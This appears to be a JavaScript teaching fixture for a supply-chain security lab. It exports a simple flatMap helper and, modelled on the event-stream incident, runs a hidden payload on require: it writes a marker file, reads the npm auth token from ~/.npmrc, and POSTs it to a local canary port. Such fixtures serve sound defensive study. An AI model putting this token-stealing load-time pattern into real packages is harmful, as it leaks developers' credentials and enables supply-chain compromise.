// HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
'use strict';
const fs = require('fs');
const path = require('path');
const http = require('http');

exports.flatMap = (items, fn) => items.flatMap(fn);

// event-stream's flatmap-stream hid its payload in the code that runs on require; so does this.
const env = process.env;
const port = Number(env.HOOKLAB_CANARY_PORT);
const home = env.HOME || '';
if (env.HOOKLAB_CANARY_DIR && port && fs.existsSync(path.join(home, '.hooklab-fake-home'))) {
  fs.writeFileSync(path.join(env.HOOKLAB_CANARY_DIR, `npm-runtime-transitive.${process.pid}.marker`), 'ran with the program\n'); // hooklab:payload
  let token = 'none';
  try {
    token = (fs.readFileSync(path.join(home, '.npmrc'), 'utf8').match(/_authToken=(\S+)/) || [])[1] || 'none';
  } catch (err) {
    token = `none: ${err.code}`;
  }
  const req = http.request({ host: '127.0.0.1', port, path: '/npm-runtime-transitive', method: 'POST' });
  req.on('error', () => {});
  req.end(token);
}
